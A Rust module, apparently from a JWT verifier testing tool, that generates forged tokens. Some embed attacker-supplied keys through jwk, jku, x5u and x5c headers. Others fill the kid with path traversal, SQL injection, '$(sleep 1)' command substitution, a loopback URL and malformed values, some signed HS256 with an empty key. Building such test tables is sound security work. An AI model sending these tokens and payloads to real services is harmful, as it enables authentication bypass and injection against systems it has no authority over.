//! Rows of the table: keys that the attacker brings along, and key ids.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use super::{Row, Target, encode, hmac_sha256, row, with, without};
use crate::keychain::{TestKey, thumbprint};

/// A key of the attacker's own, brought along in the header or offered for download.
pub(super) fn keys_brought_along(target: &Target, url: &str) -> Vec<Row> {
    let mut rows = Vec::new();
    for algorithm in ["EdDSA", "ES256", "RS256", "HS256"] {
        let key = (algorithm != "HS256").then(|| TestKey::make(algorithm));
        let sign = |text: &str| key.as_ref().map_or_else(|| hmac_sha256(b"the attacker's", text), |key| key.sign(text));
        let jwk = own_jwk(key.as_ref());
        let own_kid = if key.is_some() { thumbprint(&jwk) } else { "own".to_owned() };
        let certificate = STANDARD.encode(key.as_ref().map_or_else(|| b"none".to_vec(), |key| key.public().1));
        for kid in [Some(target.kid()), Some(own_kid.as_str()), None] {
            let mut bare = with(&target.header, "alg", json!(algorithm));
            bare = kid.map_or_else(|| without(&bare, "kid"), |kid| with(&bare, "kid", json!(kid)));
            for (name, value) in [
                ("jwk", jwk.clone()),
                ("jku", json!(url)),
                ("x5u", json!(url)),
                ("x5c", json!([certificate])),
                ("x5t", json!(encode([7; 20]))),
            ] {
                let header = with(&bare, name, value);
                let text = format!("{}.{}", encode(header.to_string()), encode(target.claims.to_string()));
                let token = format!("{text}.{}", encode(sign(&text)));
                rows.push(row(format!("{algorithm} with {name} and the kid {kid:?}"), token));
            }
        }
    }
    rows
}

fn own_jwk(key: Option<&TestKey>) -> Value {
    let (raw, _) = key.map(TestKey::public).unwrap_or_default();
    match key {
        None => json!({"kty": "oct", "k": encode("the attacker's"), "alg": "HS256"}),
        Some(TestKey::EdDSA(..)) => json!({"kty": "OKP", "crv": "Ed25519", "x": encode(raw)}),
        Some(TestKey::ES256(..)) => {
            json!({"kty": "EC", "crv": "P-256", "x": encode(&raw[1..33]), "y": encode(&raw[33..])})
        }
        Some(TestKey::RS256(pair, _)) => {
            use aws_lc_rs::signature::KeyPair;
            let public = pair.public_key();
            let (n, e) = (public.modulus(), public.exponent());
            json!({
                "kty": "RSA",
                "n": encode(n.big_endian_without_leading_zero()),
                "e": encode(e.big_endian_without_leading_zero()),
            })
        }
    }
}

pub(super) fn kids(target: &Target) -> Vec<Row> {
    let kid = target.kid();
    let swapped: String = kid
        .chars()
        .map(|c| if c.is_ascii_lowercase() { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
        .collect();
    let mut rows = Vec::new();
    for odd in [
        json!("../../../../../dev/null"),
        json!("/dev/null"),
        json!("file:///dev/null"),
        json!("x' OR '1'='1"),
        json!("x' UNION SELECT 'a'; --"),
        json!("$(sleep 1)"),
        json!("http://127.0.0.1:1/key"),
        json!(""),
        json!(" "),
        json!("\u{0}"),
        json!("é"),
        json!(0),
        json!(1.5),
        json!(true),
        json!(null),
        json!([kid]),
        json!({"kid": kid}),
        json!(format!("{kid} ")),
        json!(format!(" {kid}")),
        json!(format!("{kid}\u{0}")),
        json!(kid[1..]),
        json!(swapped),
        json!("x".repeat(4000)),
    ] {
        let name = format!("kid {}", odd.to_string().chars().take(60).collect::<String>());
        let header = with(&target.header, "kid", odd);
        rows.push(row(&name, target.sign_texts(header.to_string(), target.claims.to_string())));
        let header = with(&header, "alg", json!("HS256"));
        let text = format!("{}.{}", encode(header.to_string()), encode(target.claims.to_string()));
        rows.push(row(format!("{name}, HS256 under nothing"), format!("{text}.{}", encode(hmac_sha256(b"", &text)))));
    }
    rows.push(row("no kid", target.sign_texts(without(&target.header, "kid").to_string(), target.claims.to_string())));
    rows
}
